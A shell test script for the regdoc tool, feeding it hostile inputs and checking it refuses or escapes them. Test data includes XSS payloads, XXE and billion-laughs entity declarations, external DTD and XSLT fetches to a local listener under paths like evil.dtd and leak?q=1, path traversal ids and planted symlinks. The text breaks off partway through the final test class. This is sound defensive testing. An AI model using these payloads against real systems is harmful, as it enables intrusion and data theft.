#!/bin/sh
# Hostile input, one class per run (SECURITY.md lists what regdoc promises for each).
#
# Every class builds a previous good output first, then runs regdoc on the hostile copy
# and checks (a) the exit status, (b) the diagnostic (an extended regular expression
# one line of stderr must match), (c) that the previous output is byte-identical (a
# checksum of every path and file) and no temporary output (*.tmp-*, *.old-*) is left,
# and the class's own promise: a secret file's text appears nowhere, nothing connects
# to the network (a local listener counts connections), nothing is written outside the
# output folder, the built HTML and Markdown are inert (tests/hostile/inert.py).
# Inputs that are hostile but legal (deep nesting, bracket runs, a huge range, raw HTML)
# must build (exit 0, into a fresh folder) and, run again with -W (their warnings made
# errors), fail without touching the previous output. No timing is asserted; ctest's
# TIMEOUT catches a hang.
#
# usage: tests/hostile/run.sh CLASS REGDOC_BINARY      (no CLASS: the list)
# $REGDOC_WRAPPER (e.g. valgrind) is put in front of every regdoc run under test.
set -u
class=${1:-}
regdoc=${2:-}
here=$(cd "$(dirname "$0")" && pwd)
root=$(cd "$here/../.." && pwd)
classes="deep-blockquotes bracket-runs cite-huge-range raw-html raw-html-product
xml-external-entity xml-billion-laughs xml-external-dtd xml-xinclude xml-truncated
xml-not-xml xml-huge-attribute xml-deep product-id-dotdot template-write-outside
template-read-url template-symlink output-symlink md-injection manifest-title-injection terminal-escapes
xml-control-chars template-recursion"

if [ -z "$class" ] || [ -z "$regdoc" ]; then
	echo "usage: run.sh CLASS REGDOC_BINARY; classes:" $classes >&2
	exit 2
fi
case "$regdoc" in /*) ;; *) regdoc=$(pwd)/$regdoc ;; esac

work=$(mktemp -d "${TMPDIR:-/tmp}/regdoc-hostile.XXXXXX") || exit 2
work=$(cd "$work" && pwd -P)
lpid=
cleanup() {
	[ -n "$lpid" ] && kill "$lpid" 2>/dev/null
	rm -rf "$work"
}
trap cleanup EXIT
trap 'exit 2' HUP INT TERM
cd "$work" || exit 2

fail=0
failed() { echo "FAIL [$class]: $*"; fail=1; }
note() { echo "  [$class] $*"; }

# Every path and file in the tree, and the content of each file: any change shows.
tree_sum() {
	(cd "$1" && find . -print | LC_ALL=C sort && find . -type f -print0 | LC_ALL=C sort -z |
		xargs -0 sha256sum) | sha256sum
}

# run ARGS...: regdoc under test; sets $status, stderr in run.err
run() {
	${REGDOC_WRAPPER:-} "$regdoc" "$@" >run.out 2>run.err
	status=$?
	runs="$runs
regdoc $*  => exit $status"
}
runs=

expect_status() { [ "$status" = "$1" ] || failed "exit status $status, expected $1 (regdoc $2)"; }
expect_diag() {
	grep -Eq -- "$1" run.err || failed "no diagnostic matching /$1/"
}
expect_no_diag() {
	if grep -Eq -- "$1" run.err; then failed "unexpected diagnostic matching /$1/"; fi
}
# expect_intact DIR SUM: the previous output in DIR is byte-identical, nothing temporary left
expect_intact() {
	[ "$(tree_sum "$1")" = "$2" ] || failed "the previous output in $1/ changed"
	left=$(find "$work" \( -name '*.tmp-*' -o -name '*.old-*' \) -print)
	[ -z "$left" ] || failed "temporary output left behind: $left"
}
# expect_absent TEXT PATH...: a secret's text appears in no output and no message
expect_absent() {
	t=$1
	shift
	if grep -rqF -- "$t" "$@" run.err run.out 2>/dev/null; then
		failed "the secret text appears in: $(grep -rlF -- "$t" "$@" run.err run.out | tr '\n' ' ')"
	fi
}
# expect_inert DIR: no script, handler or unsafe link in what was built
expect_inert() {
	python3 "$here/inert.py" "$1" >inert.txt 2>&1 || failed "output not inert: $(head -5 inert.txt)"
	# and the greps a reviewer would run
	if grep -rqE --include='*.html' '<script[^>]*>[^<[:space:]]' "$1"; then
		failed "inline <script> code in $1"
	fi
	if grep -rqiE --include='*.html' '<[a-z][^>]*[[:space:]]on[a-z]+[[:space:]]*=' "$1"; then
		failed "an on*= event handler in a tag in $1"
	fi
	if grep -rqiE --include='*.html' '<[a-z][^>]*[[:space:]](href|src|action)[[:space:]]*=[[:space:]]*["'\'']?[[:space:]]*(javascript|vbscript|data):' "$1"; then
		failed "a javascript:/vbscript:/data: URL in a tag in $1"
	fi
}
expect_no_connection() {
	if [ -s conn.log ]; then failed "regdoc connected to the network: $(cat conn.log)"; fi
}

# setup_mini: the fixture regulation and its previous output out/ ($before)
setup_mini() {
	cp -R "$root/tests/fixtures/mini" mini
	if ! "$regdoc" build mini -o out >setup.out 2>setup.err || [ ! -f out/mini/graph.xml ]; then
		echo "FAIL [$class]: setup: the intact fixture does not build:"
		cat setup.err
		exit 1
	fi
	before=$(tree_sum out)
}
# setup_reg: a private copy of the AI Act (pages, rules, products) and the previous
# output of one product in pout/ ($pbefore)
setup_reg() {
	cp -R "$root/corpus/ai-act" reg
	good=reg/products/hirerank-cv-screening.xml
	if ! "$regdoc" assess "$good" --regulation reg -o pout >setup.out 2>setup.err; then
		echo "FAIL [$class]: setup: the good product does not assess:"
		cat setup.err
		exit 1
	fi
	pbefore=$(tree_sum pout)
}
# a secret only a successful attack could read
setup_secret() {
	token="SECRET-$$-$(date +%s)-TOKEN"
	echo "$token" >secret.txt
	printf '<!ENTITY leak "%s">\n' "$token" >secret.dtd
}
# start_listener: a TCP port on 127.0.0.1 ($port) that logs connections to conn.log
start_listener() {
	python3 "$here/listen.py" port.txt conn.log 600 &
	lpid=$!
	i=0
	while [ ! -s port.txt ] && [ $i -lt 100 ]; do sleep 0.1; i=$((i + 1)); done
	port=$(cat port.txt 2>/dev/null)
	[ -n "$port" ] || { echo "FAIL [$class]: setup: the listener did not start"; exit 1; }
}
# product_with FILE SED-SCRIPT: the good product edited
product_with() {
	sed "$2" "$root/corpus/ai-act/products/hirerank-cv-screening.xml" >"$1"
}
# with_doctype FILE DOCTYPE...: insert a DOCTYPE after the XML declaration (or at the top)
with_doctype() {
	f=$1
	shift
	if head -n 1 "$f" | grep -q '^<?xml'; then
		{ head -n 1 "$f"; printf '%s\n' "$@"; tail -n +2 "$f"; } >"$f.new"
	else
		{ printf '%s\n' "$@"; cat "$f"; } >"$f.new"
	fi
	mv "$f.new" "$f"
}
# repeat N STRING: STRING N times, no newline
repeat() {
	head -c "$1" /dev/zero | tr '\0' '\n' | sed "s/^/$2/" | tr -d '\n'
}
# assess_bad FILE: assess a bad product over pout/
assess_bad() {
	run assess "$1" --regulation reg -o pout
}

A=mini/articles
case "$class" in
deep-blockquotes)
	# 100 000 nested block quotes after paragraph 1 of Article 1 (line 6)
	setup_mini
	f=$A/article-001.md
	{ head -n 4 $f; echo; head -c 100000 /dev/zero | tr '\0' '>'; echo " deep"; tail -n +5 $f; } >$f.new
	mv $f.new $f
	run build mini -o new
	expect_status 0 "build"
	expect_diag "^mini/articles/article-001\.md:6: warning: unexpected block_quote in the law's text, kept as a paragraph"
	grep -q '<text line="6">deep</text>' new/mini/graph.xml || failed "the quoted words are not kept"
	run -W build mini -o out
	expect_status 1 "-W build"
	expect_diag "^mini/articles/article-001\.md:6: error: unexpected block_quote"
	expect_intact out "$before"
	;;
bracket-runs)
	# long runs of brackets, emphasis markers, backticks and '<' (cmark's known
	# quadratic shapes), each a paragraph of Article 1, 0.8 MB in all (the limit is 1 MiB)
	setup_mini
	f=$A/article-001.md
	n=50000
	{
		head -n 4 $f
		for run_ in '[' '*' '_' '`'; do
			echo
			head -c $n /dev/zero | tr '\0' "$run_"
			printf 'x'
			head -c $n /dev/zero | tr '\0' "$run_"
			echo
		done
		for unit in '*a' '**a_' '[a](' '![' '[x]' '*_' '<a ' '\&#' '\\'; do
			echo
			repeat 20000 "$unit"
			echo
		done
		echo
		tail -n +5 $f
	} >$f.new
	mv $f.new $f
	[ "$(wc -c <$f)" -lt 1048576 ] || { echo "FAIL [$class]: setup: page over 1 MiB"; exit 1; }
	run build mini -o new
	expect_status 0 "build"
	expect_no_diag "^mini/articles/article-001\.md:[0-9]+: error"
	[ -f new/mini/site/art-1.html ] || failed "no site page for Article 1"
	expect_inert new
	run -W build mini -o out
	expect_status 1 "-W build"
	expect_diag "^mini/articles/article-004\.md:6: error: 'Article 99' cites art-99"
	expect_intact out "$before"
	;;
cite-huge-range)
	# a range of four billion articles is cut at LINK_MAX_RANGE (500) targets
	setup_mini
	sed -i '4s/$/ See Articles 1 to 4000000000./' $A/article-001.md
	run --max-errors 0 build mini -o new
	expect_status 0 "build"
	expect_diag "^mini/articles/article-001\.md:4: warning: range 'Articles 1 to 4000000000' is longer than 500; cut"
	grep -q '<cite to="art-1 art-2 art-3 art-4">Articles 1 to 4000000000</cite>' new/mini/graph.xml ||
		failed "the range is not linked to the articles that exist"
	run -W --max-errors 0 build mini -o out
	expect_status 1 "-W build"
	expect_diag "^mini/articles/article-001\.md:4: error: range 'Articles 1 to 4000000000' is longer than 500; cut"
	expect_intact out "$before"
	;;
raw-html)
	# raw HTML, event handlers and javascript: links in a page: the site stays inert
	setup_mini
	f=$A/article-001.md
	{
		head -n 16 $f
		cat <<'EOF'

3. Inline: <script>alert('PAGE-XSS-1')</script> and <img src=x onerror=alert('PAGE-XSS-2')> and <a href="javascript:alert(3)">a</a> and [b](javascript:alert(4)) and [c](JaVaScRiPt:alert(5)) and [d](&#106;avascript:alert(6)) and <javascript:alert(7)> and [e](data:text/html;base64,PHNjcmlwdD4=) and [f](vbscript:msgbox) and <svg onload=alert(8)> and ![i](javascript:alert(9)) and [ok](https://example.org/) and [rel](../x).

<script>alert('PAGE-XSS-BLOCK')</script>

<div onclick="alert('PAGE-XSS-DIV')"><iframe src="javascript:alert(10)"></iframe></div>
EOF
		tail -n +17 $f
	} >$f.new
	mv $f.new $f
	run build mini -o new
	expect_status 0 "build"
	expect_diag "^mini/articles/article-001\.md:20: warning: raw HTML block kept as plain text"
	expect_inert new
	grep -qF "&lt;script&gt;alert('PAGE-XSS-1')&lt;/script&gt;" new/mini/site/art-1.html ||
		failed "the page's text is not kept (escaped) in the site"
	if grep -rqF "<script>alert(" new; then failed "the page's <script> reached the site"; fi
	grep -q 'href="https://example.org/"' new/mini/site/art-1.html || failed "the safe link is lost"
	run -W build mini -o out
	expect_status 1 "-W build"
	expect_diag "^mini/articles/article-001\.md:20: error: raw HTML block kept as plain text"
	expect_intact out "$before"
	;;
raw-html-product)
	# markup in a product's text: checklists and Annex IV templates stay inert
	setup_reg
	product_with xss.xml 's|<name>HireRank CV Screening</name>|<name>HireRank \&lt;script\&gt;alert("PROD-XSS-1")\&lt;/script\&gt; \&lt;img src=x onerror=alert(2)\&gt; [x](javascript:alert(3))</name>|; s|HireRank B.V. (Utrecht, NL)|\&lt;a href="javascript:alert(4)"\&gt;HireRank\&lt;/a\&gt;|'
	grep -q 'PROD-XSS-1' xss.xml || { echo "FAIL [$class]: setup: product not edited"; exit 1; }
	run assess xss.xml --regulation reg -o new
	expect_status 0 "assess"
	expect_no_diag "^xss\.xml"
	expect_inert new
	grep -qF 'HireRank &lt;script&gt;alert("PROD-XSS-1")' new/checklist.html ||
		failed "the product's name is not kept (escaped) in the checklist"
	if grep -rqF '<script>alert(' new; then failed "the product's <script> reached the output"; fi
	# the product's markup warns of nothing and every citation of the AI Act resolves
	# exactly, so -W needs a warning of its own: a citation of an article that the
	# copy does not have (in the text in force, the latest version: corpus/ai-act/manifest.xml)
	sed -i '4s/$/ See Article 999./' reg/versions/2026-07-27/articles/article-001.md
	run -W assess xss.xml --regulation reg -o pout
	expect_status 1 "-W assess"
	expect_diag "^reg/versions/2026-07-27/articles/article-001\.md:4: error: 'Article 999' cites art-999, which does not exist"
	expect_intact pout "$pbefore"
	;;
xml-external-entity)
	# external entities naming a local file, in a product, a rule file and a manifest:
	# refused, and the file's text appears nowhere
	setup_secret
	setup_reg
	setup_mini
	product_with xxe.xml 's|<name>HireRank CV Screening</name>|<name>\&xxe;</name>|'
	with_doctype xxe.xml "<!DOCTYPE product [<!ENTITY xxe SYSTEM \"file://$work/secret.txt\">]>"
	assess_bad xxe.xml
	expect_status 1 "assess xxe.xml"
	expect_diag "^xxe\.xml:[0-9]+: error: DOCTYPE with entity declarations or an external DTD is refused"
	expect_absent "$token" pout mini out
	expect_intact pout "$pbefore"
	# a parameter entity that would pull in a DTD declaring the secret
	product_with xxe-pe.xml 's|<name>HireRank CV Screening</name>|<name>\&leak;</name>|'
	with_doctype xxe-pe.xml "<!DOCTYPE product [<!ENTITY % pe SYSTEM \"file://$work/secret.dtd\"> %pe;]>"
	assess_bad xxe-pe.xml
	expect_status 1 "assess xxe-pe.xml"
	expect_diag "^xxe-pe\.xml:[0-9]+: error: "
	expect_absent "$token" pout
	expect_intact pout "$pbefore"
	# a rule file
	r=reg/rules/00-checks.xml
	sed -i 's|<title>\([^<]*\)</title>|<title>\1 \&xxe;</title>|' $r
	with_doctype $r "<!DOCTYPE rules [<!ENTITY xxe SYSTEM \"file://$work/secret.txt\">]>"
	run assess "$good" --regulation reg -o pout
	expect_status 1 "assess (rule file with an entity)"
	expect_diag "^reg/rules/00-checks\.xml:[0-9]+: error: DOCTYPE with entity declarations or an external DTD is refused"
	expect_absent "$token" pout
	expect_intact pout "$pbefore"
	# a manifest
	sed -i 's|<short-title>Mini Act</short-title>|<short-title>\&xxe;</short-title>|' mini/manifest.xml
	with_doctype mini/manifest.xml "<!DOCTYPE manifest [<!ENTITY xxe SYSTEM \"file://$work/secret.txt\">]>"
	run build mini -o out
	expect_status 1 "build (manifest with an entity)"
	expect_diag "^mini/manifest\.xml:[0-9]+: error: DOCTYPE with entity declarations or an external DTD is refused"
	expect_absent "$token" out
	expect_intact out "$before"
	;;
xml-billion-laughs)
	setup_reg
	product_with lol.xml 's|<name>HireRank CV Screening</name>|<name>\&lol9;</name>|'
	with_doctype lol.xml '<!DOCTYPE product [' '<!ENTITY lol "lol">' \
		'<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' \
		'<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">' \
		'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">' \
		'<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">' \
		'<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">' \
		'<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">' \
		'<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">' \
		'<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">' \
		'<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">' ']>'
	assess_bad lol.xml
	expect_status 1 "assess lol.xml"
	expect_diag "^lol\.xml:[0-9]+: error: DOCTYPE with entity declarations or an external DTD is refused"
	if grep -q 'lollollol' run.err; then failed "entities were expanded"; fi
	expect_intact pout "$pbefore"
	;;
xml-external-dtd)
	# a DTD on the network (a listener on 127.0.0.1 counts connections: none allowed)
	start_listener
	setup_reg
	setup_mini
	product_with dtd.xml 's|x|x|'
	with_doctype dtd.xml "<!DOCTYPE product SYSTEM \"http://127.0.0.1:$port/evil.dtd\">"
	assess_bad dtd.xml
	expect_status 1 "assess dtd.xml"
	expect_diag "^dtd\.xml:[0-9]+: error: DOCTYPE with entity declarations or an external DTD is refused"
	expect_intact pout "$pbefore"
	product_with dtd-public.xml 's|x|x|'
	with_doctype dtd-public.xml "<!DOCTYPE product PUBLIC \"-//EVIL//DTD Product//EN\" \"http://127.0.0.1:$port/public.dtd\">"
	assess_bad dtd-public.xml
	expect_status 1 "assess dtd-public.xml"
	expect_diag "^dtd-public\.xml:[0-9]+: error: DOCTYPE with entity declarations or an external DTD is refused"
	expect_intact pout "$pbefore"
	with_doctype mini/manifest.xml "<!DOCTYPE manifest SYSTEM \"http://127.0.0.1:$port/manifest.dtd\">"
	run build mini -o out
	expect_status 1 "build (manifest with an external DTD)"
	expect_diag "^mini/manifest\.xml:[0-9]+: error: DOCTYPE with entity declarations or an external DTD is refused"
	expect_intact out "$before"
	sleep 0.5
	expect_no_connection
	;;
xml-xinclude)
	# XInclude is not processed: the element stays an unknown element, refused by the schema
	setup_secret
	setup_reg
	product_with xi.xml "s|<name>HireRank CV Screening</name>|<name><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file://$work/secret.txt\" parse=\"text\"/></name>|"
	assess_bad xi.xml
	expect_status 1 "assess xi.xml"
	expect_diag "^xi\.xml:5: error: <name> takes text, not elements: <xi:include> is not allowed in it"
	expect_absent "$token" pout
	expect_intact pout "$pbefore"
	r=reg/rules/10-classification.xml
	sed -i "s|</rules>|<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file://$work/secret.txt\" parse=\"text\"/></rules>|" $r
	run assess "$good" --regulation reg -o pout
	expect_status 1 "assess (rule file with xi:include)"
	expect_diag "^reg/rules/10-classification\.xml:[0-9]+: error: .*include"
	expect_absent "$token" pout
	expect_intact pout "$pbefore"
	;;
xml-truncated)
	setup_reg
	head -c 700 "$root/corpus/ai-act/products/hirerank-cv-screening.xml" >truncated.xml
	assess_bad truncated.xml
	expect_status 1 "assess truncated.xml"
	expect_diag "^truncated\.xml:[0-9]+: error: "
	expect_intact pout "$pbefore"
	r=reg/rules/20-route.xml
	head -c 5000 $r >$r.new && mv $r.new $r
	run assess "$good" --regulation reg -o pout
	expect_status 1 "assess (truncated rule file)"
	expect_diag "^reg/rules/20-route\.xml:[0-9]+: error: "
	expect_intact pout "$pbefore"
	;;
xml-not-xml)
	setup_reg
	cp "$root/corpus/ai-act/articles/article-043.md" page.xml
	assess_bad page.xml
	expect_status 1 "assess page.xml"
	expect_diag "^page\.xml:1: error: this is not XML: the file must start with '<'"
	expect_intact pout "$pbefore"
	printf '\211PNG\r\n\032\n\000\000\000\rIHDR\000\000\000\001' >png.xml
	assess_bad png.xml
	expect_status 1 "assess png.xml"
	expect_diag "^png\.xml:[0-9]+: error: "
	expect_intact pout "$pbefore"
	: >empty.xml
	assess_bad empty.xml
	expect_status 1 "assess empty.xml"
	expect_diag "^empty\.xml:[0-9]+: error: "
	expect_intact pout "$pbefore"
	;;
xml-huge-attribute)
	# a 10 MiB attribute (under the 16 MiB file limit: libxml2's 10 000 000-byte value
	# limit refuses it), then a 20 MiB file (over XMLSAFE_MAX_BYTES)
	setup_reg
	{
		head -n 4 "$root/corpus/ai-act/products/hirerank-cv-screening.xml"
		printf '  <name note="'
		head -c 10485760 /dev/zero | tr '\0' A
		printf '">HireRank</name>\n'
		tail -n +6 "$root/corpus/ai-act/products/hirerank-cv-screening.xml"
	} >huge.xml
	assess_bad huge.xml
	expect_status 1 "assess huge.xml"
	expect_diag "^huge\.xml:5: error: an attribute's value is over the limit of 10,000,000 bytes$"
	expect_intact pout "$pbefore"
	{
		head -n 5 "$root/corpus/ai-act/products/hirerank-cv-screening.xml"
		printf '<!-- '
		head -c 20971520 /dev/zero | tr '\0' A
		printf ' -->\n'
		tail -n +6 "$root/corpus/ai-act/products/hirerank-cv-screening.xml"
	} >huger.xml
	assess_bad huger.xml
	expect_status 1 "assess huger.xml"
	expect_diag "^huger\.xml: error: file of [0-9]+ bytes is over the limit of 16777216 bytes"
	expect_intact pout "$pbefore"
	;;
xml-deep)
	# elements nested past XMLSAFE_MAX_DEPTH (128), and past libxml2's own 256
	setup_reg
	for depth in 200 100000; do
		{
			head -n 4 "$root/corpus/ai-act/products/hirerank-cv-screening.xml"
			repeat $depth '<name>'
			repeat $depth '<\/name>'
			echo
			tail -n +6 "$root/corpus/ai-act/products/hirerank-cv-screening.xml"
		} >deep-$depth.xml
		assess_bad deep-$depth.xml
		expect_status 1 "assess deep-$depth.xml"
		expect_diag "^deep-$depth\.xml:[0-9]+: error: elements nested deeper than 128 levels are refused"
		expect_intact pout "$pbefore"
	done
	;;
product-id-dotdot)
	# a product id with ../ (refused by product.rng, and by regdoc itself when a
	# --templates folder weakens the schema), and a product file named "...xml"
	setup_reg
	product_with dotdot.xml 's|id="hirerank-cv-screening"|id="../../../escape"|'
	assess_bad dotdot.xml
	expect_status 1 "assess dotdot.xml"
	expect_diag "^dotdot\.xml:4: error: bad value \"\.\./\.\./\.\./escape\" for attribute id of <product>; expected lower-case letters, digits and hyphens"
	expect_intact pout "$pbefore"
	cp -R "$root/templates" T
	sed -i 's|<param name="pattern">\[a-z0-9\]\[a-z0-9\\-\]{0,63}</param>||' T/schema/product.rng
	grep -q '{0,63}' T/schema/product.rng && sed -i 's|<param name="pattern">[^<]*{0,63}</param>||' T/schema/product.rng
	run assess dotdot.xml --regulation reg --templates T -o pout
	expect_status 1 "assess --templates (weak schema) dotdot.xml"
	expect_diag "^dotdot\.xml:4: error: the product needs an id that is a safe slug"
	expect_intact pout "$pbefore"
	if [ -n "$(find "$work" / -maxdepth 1 -name escape 2>/dev/null)" ]; then failed "an 'escape' folder was made"; fi
	# a product file whose name would make the output folder products/..
	"$regdoc" build reg -o bout >setup.out 2>setup.err || { echo "FAIL [$class]: setup: build"; cat setup.err; exit 1; }
	bbefore=$(tree_sum bout)
	cp "$good" "reg/products/...xml"
	run build reg -o bout
	expect_status 1 "build (products/...xml)"
	expect_diag "^reg/products/\.\.\.xml: error: a product file name must be a safe slug"
	expect_intact bout "$bbefore"
	;;
template-write-outside)
	# a --templates copy whose site stylesheet writes outside the output folder (a
	# relative ../, an absolute path, a file: URI), and whose checklist writes at all
	setup_mini
	cp -R "$root/templates" T
	sed -i "s|<xsl:template match=\"regulation\" mode=\"site\">|&\\
    <exsl:document href=\"../../escaped-rel.html\" method=\"html\"><p>escaped</p></exsl:document>\\
    <exsl:document href=\"$work/escaped-abs.html\" method=\"html\"><p>escaped</p></exsl:document>\\
    <exsl:document href=\"file://$work/escaped-uri.html\" method=\"html\"><p>escaped</p></exsl:document>|" T/site/site.xsl
	grep -q escaped-rel T/site/site.xsl || { echo "FAIL [$class]: setup: stylesheet not edited"; exit 1; }
	run build --templates T mini -o out
	expect_status 1 "build --templates T"
	expect_diag "^T/site/site\.xsl:[0-9]+: error: File write for $work/out/escaped-rel\.html refused"
	expect_diag "^T/site/site\.xsl:[0-9]+: error: File write for $work/escaped-abs\.html refused"
	expect_diag "^T/site/site\.xsl:[0-9]+: error: File write for $work/escaped-uri\.html refused"
	for f in out/escaped-rel.html escaped-abs.html escaped-uri.html; do
		[ -e "$f" ] && failed "$f was written"
	done
	expect_intact out "$before"
	setup_reg
	cp -R "$root/templates" T2
	sed -i -e "s|<xsl:stylesheet version=\"1.0\"|& xmlns:exsl=\"http://exslt.org/common\" extension-element-prefixes=\"exsl\"|" \
		-e "s|<xsl:template match=\"/assessment\">|&<exsl:document href=\"$work/escaped-checklist.html\"><p>escaped</p></exsl:document>|" T2/checklist/html.xsl
	grep -q escaped-checklist T2/checklist/html.xsl || { echo "FAIL [$class]: setup: checklist not edited"; exit 1; }
	run assess "$good" --regulation reg --templates T2 -o pout
	expect_status 1 "assess --templates T2"
	expect_diag "^T2/checklist/html\.xsl:[0-9]+: error: .*$work/escaped-checklist\.html"
	[ -e escaped-checklist.html ] && failed "escaped-checklist.html was written"
	expect_intact pout "$pbefore"
	;;
template-read-url)
	# a --templates copy that reads a URL with document(), or includes one
	start_listener
	setup_mini
	cp -R "$root/templates" T
	sed -i "s|<xsl:template match=\"regulation\" mode=\"site\">|&\\
    <xsl:if test=\"document('http://127.0.0.1:$port/leak?q=1')\"><p>remote</p></xsl:if>|" T/site/site.xsl
	run build --templates T mini -o out
	expect_status 1 "build --templates T (document())"
	expect_diag "^T/site/site\.xsl:[0-9]+: error: .*http://127\.0\.0\.1:$port/leak\?q=1 (refused|denied)"
	expect_intact out "$before"
	cp -R "$root/templates" T2
	sed -i "s|<xsl:include href=\"labels.xsl\"/>|&<xsl:include href=\"http://127.0.0.1:$port/evil.xsl\"/>|" T2/site/site.xsl
	run build --templates T2 mini -o out
	expect_status 1 "build --templates T2 (xsl:include)"
	expect_diag "error: refused to load http://127\.0\.0\.1:$port/evil\.xsl: only local files can be read"
	expect_intact out "$before"
	sleep 0.5
	expect_no_connection
	;;
template-symlink)
	# a symlink planted among a template's static files is not followed
	setup_secret
	setup_mini
	cp -R "$root/templates" T
	ln -s "$work/secret.txt" T/site/static/leak.txt
	run build --templates T mini -o new
	expect_status 0 "build --templates T"
	expect_diag "^T/site/static/leak\.txt: warning: not a regular file: not copied into the site"
	[ -e new/mini/site/static/leak.txt ] && failed "the symlink was copied"
	expect_absent "$token" new
	run -W build --templates T mini -o out
	expect_status 1 "-W build --templates T"
	expect_diag "^mini/articles/article-004\.md:6: error: 'Article 99' cites art-99"
	expect_intact out "$before"
	;;
output-symlink)
	# symlinks planted in the previous output (a file of the site, the regulation's
	# folder itself) are replaced, never followed: what they point at stays as it was
	setup_mini
	mkdir victim victim2
	echo canary >victim/canary
	echo canary2 >victim2/file
	vsum=$(tree_sum victim)
	v2sum=$(tree_sum victim2)
	rm out/mini/site/art-1.html
	ln -s "$work/victim2/file" out/mini/site/art-1.html
	run build mini -o out
	expect_status 0 "build (a symlink in the site)"
	[ -L out/mini/site/art-1.html ] && failed "the planted symlink is still there"
	[ "$(tree_sum victim2)" = "$v2sum" ] || failed "the file a planted symlink points at changed"
	rm -rf out/mini
	ln -s "$work/victim" out/mini
	run build mini -o out
	expect_status 0 "build (the output folder a symlink)"
	[ -d out/mini ] && [ ! -L out/mini ] || failed "out/mini is not a real folder"
	[ -f out/mini/graph.xml ] || failed "no new output"
	[ "$(tree_sum victim)" = "$vsum" ] || failed "the folder a planted symlink points at changed"
	left=$(find "$work" \( -name '*.tmp-*' -o -name '*.old-*' \) -print)
	[ -z "$left" ] || failed "temporary output left behind: $left"
	;;
md-injection)
	# issue 18, class 3: every string from an input that reaches the Markdown, HTML and
	# ODT outputs, with the characters that end its context: a backtick run (a code
	# span), "-->" (an HTML comment), "<!--", raw tags and a javascript: link, in the
	# product's file name (a code span in checklist.md), its name, version, provider,
	# intended purpose and a fact's value. The Markdown is rendered by cmark (raw HTML
	# kept) and checked like the HTML (inert.py); the FODT must be well-formed XML.
	if ! command -v cmark >/dev/null 2>&1; then
		echo "FAIL [$class]: cmark (the CommonMark renderer, package cmark) is needed to render the Markdown"
		exit 1
	fi
	setup_reg
	evil='x``y`<img src=x onerror=alert(1)>` --> <!-- <script>alert(2)</script>'
	evilx='x``y`\&lt;img src=x onerror=alert(1)\&gt;` --\&gt; \&lt;!-- \&lt;script\&gt;alert(2)\&lt;/script\&gt;'
	f='p``q`<img src=x onerror=alert(3)>`-->r.xml'
	product_with "$f" "s|<name>HireRank CV Screening</name>|<name>N $evilx</name>|; s|<version>[^<]*</version>|<version>V $evilx</version>|; s|HireRank B.V. (Utrecht, NL)|P $evilx|; s|\(<intended-purpose>\)|\1I $evilx |"
	grep -q 'onerror=alert(1)' "$f" || { echo "FAIL [$class]: setup: product not edited"; exit 1; }
	run assess "$f" --regulation reg -o new
	expect_status 0 "assess"
	expect_inert new
	for out in new/checklist.md new/annex-iv.md; do
		[ -s "$out" ] || failed "no $out"
	done
	cmark --unsafe new/checklist.md >rendered.html
	grep -qF '<code>p``q`&lt;img src=x onerror=alert(3)&gt;`--&gt;r.xml</code>' rendered.html ||
		failed "the product file name is not one code span in checklist.md: $(grep -m1 'Product description' new/checklist.md)"
	grep -qF 'N x``y`&lt;img src=x onerror=alert(1)&gt;` --&gt; &lt;!-- &lt;script&gt;' rendered.html ||
		failed "the product's name is not kept as text in checklist.md"
	# the same file name with the shipped schema's rules, and the fact values, in HTML
	grep -qF 'N x``y`&lt;img src=x onerror=alert(1)&gt;` --&gt; &lt;!-- &lt;script&gt;' new/checklist.html ||
		failed "the product's name is not kept (escaped) in checklist.html"
	for x in new/*.fodt; do
		xmllint --noout "$x" 2>/dev/null || failed "$x is not well-formed XML"
	done
	# an Annex IV comment holds the point's label: never ended early
	[ "$(grep -c -- '-->' new/annex-iv.md)" = "$(grep -c -- '^<!-- ' new/annex-iv.md)" ] ||
		failed "a comment in annex-iv.md is ended early or not at all"
	;;
manifest-title-injection)
	# issue 18, class 3, the other field it names: a regulation manifest's short title
	# (the CRA's, labelling its provisions in an AI Act product's combined checklist:
	# "Cyber Resilience Act Article 13(8)") with a backtick run, "-->", raw tags, Markdown
	# emphasis and a javascript: link: kept as text in the HTML and the Markdown (rendered
	# by cmark), the FODT well-formed
	if ! command -v cmark >/dev/null 2>&1; then
		echo "FAIL [$class]: cmark (the CommonMark renderer, package cmark) is needed to render the Markdown"
		exit 1
	fi
	cp -R "$root/corpus" c
	sed -i 's|<short-title>[^<]*</short-title>|<short-title>CRA x``y`\&lt;img src=x onerror=alert(1)\&gt;` --\&gt; \&lt;!-- \&lt;script\&gt;alert(2)\&lt;/script\&gt; *z* [l](javascript:alert(3))</short-title>|' c/cra/manifest.xml
	grep -q 'onerror=alert(1)' c/cra/manifest.xml || { echo "FAIL [$class]: setup: manifest not edited"; exit 1; }
	run assess c/ai-act/products/homebuddy-smart-speaker.xml -o new
	expect_status 0 "assess"
	grep -q 'onerror=alert(1)' new/checklist.md || failed "setup: the short title does not reach checklist.md"
	# parsed (inert.py), not grepped: the title is also in aria-label attributes, where
	# "onerror=" is text
	python3 "$here/inert.py" new >inert.txt 2>&1 || failed "output not inert: $(head -5 inert.txt)"
	for md in new/checklist.md new/annex-iv.md; do
		cmark --unsafe "$md" >rendered.html
		python3 "$here/inert.py" rendered.html >inert.txt 2>&1 || failed "$md rendered by cmark is not inert: $(head -3 inert.txt)"
